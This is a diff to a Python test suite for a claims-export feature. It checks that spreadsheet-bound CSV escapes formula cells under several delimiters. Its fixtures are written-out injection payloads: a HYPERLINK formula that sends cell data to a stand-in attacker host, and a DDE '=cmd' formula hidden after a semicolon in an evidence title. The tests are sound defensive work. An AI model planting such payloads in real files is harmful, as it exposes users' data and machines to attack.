@@ -26,10 +26,24 @@ CSV = reverse("claims:claim_export_csv")
 # Two published claims, an unreviewed one and a proposed verdict.
 mixed = test_export_web.mixed
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Source")'
+SEMICOLON_FORMULA = "Filing;=cmd|' /C calc'!A0;"
+DELIMITERS = (",", ";", "\t")
 
 
-def rows(text: str) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(text)))
+def rows(text: str, delimiter: str = ",") -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
+
+
+def formula_cells(text: str) -> list[str]:
+    """The cells a spreadsheet splitting on any of DELIMITERS would take for
+    formulas."""
+    return [
+        cell
+        for delimiter in DELIMITERS
+        for row in rows(text, delimiter)
+        for cell in row
+        if cell.startswith(FORMULA_STARTS)
+    ]
 
 
 def export(fmt: str) -> str:
@@ -49,6 +63,12 @@ def formulas(episode, reviewer, editor):
     )  # fmt: skip
     workflow.claim_start_research(claim=claim, actor=reviewer)
     add_evidence(claim, reviewer)
+    # A spreadsheet splitting on ";" (Excel in many locales) would start a
+    # cell at "=cmd…" inside the title, in the evidence's JSON cell.
+    workflow.evidence_add(
+        claim=claim, actor=reviewer, url="https://example.org/filing",
+        stance="refutes", title=SEMICOLON_FORMULA,
+    )  # fmt: skip
     workflow.claim_set_verdict(
         claim=claim, verdict="false", actor=reviewer, note="-5 % is not 80 times."
     )
@@ -70,27 +90,46 @@ def test_formula_cells_are_text_in_the_spreadsheet_csv_only(formulas):
     assert by_name["rationale"] == "'-5 % is not 80 times."
     # The CSV for programs keeps them as they are.
     assert dict(zip(header, programs[1], strict=True))["text"] == FORMULA
+    assert "Filing;'=cmd|' /C calc'!A0;" in by_name["evidence"]
     changed = 0
     for program_row, sheet_row in zip(programs[1:], sheets[1:], strict=True):
         for program_cell, sheet_cell in zip(program_row, sheet_row, strict=True):
-            if program_cell.startswith(FORMULA_STARTS):
-                assert sheet_cell == "'" + program_cell
-                changed += 1
-            else:
-                assert sheet_cell == program_cell
-            assert not sheet_cell.startswith(FORMULA_STARTS)
-    assert changed == 4
+            assert sheet_cell == export_module._spreadsheet_text(program_cell)
+            changed += sheet_cell != program_cell
+    assert changed == 5
     # The plain claim's row is the same in both.
     assert programs[2] == sheets[2]
+    # Split on a comma, a semicolon or a tab, the file for spreadsheets has no
+    # formula cell; the one for programs has, under ";" and at the start.
+    assert formula_cells(export("spreadsheet-csv")) == []
+    assert "=cmd|' /C calc'!A0" in formula_cells(export("csv"))
 
 
 @given(st.text(alphabet=st.characters(blacklist_characters="\x00"), max_size=40))
 def test_a_spreadsheet_cell_reads_back_as_its_text_or_its_text_made_text(text):
     cell = export_module._spreadsheet_cell(text)
     (read,) = rows(cell + ",x\r\n")
-    expected = "'" + text if text.startswith(FORMULA_STARTS) else text
-    assert read == [expected, "x"]
-    assert not read[0].startswith(FORMULA_STARTS)
+    assert read == [export_module._spreadsheet_text(text), "x"]
+    # Only apostrophes are added: taken out again, the text is as it was.
+    if "'" not in text:
+        assert read[0].replace("'", "") == text
+
+
+# Texts made of what matters here: formula starts, separators, quotes.
+TRICKY = st.text(alphabet="=+-@;,\"\t\r\n a'|", max_size=12)
+
+
+@given(st.lists(TRICKY, min_size=1, max_size=3))
+def test_no_separator_makes_a_formula_cell_of_a_spreadsheet_row(texts):
+    line = ",".join(
+        [
+            "1",
+            *(export_module._spreadsheet_cell(text) for text in texts),
+            export_module._spreadsheet_json_cell([{"title": t} for t in texts]),
+            "x",
+        ]
+    )
+    assert formula_cells(line + "\r\n") == []
 
 
 def test_the_list_offers_both_and_the_download_keeps_its_filters(client, formulas):
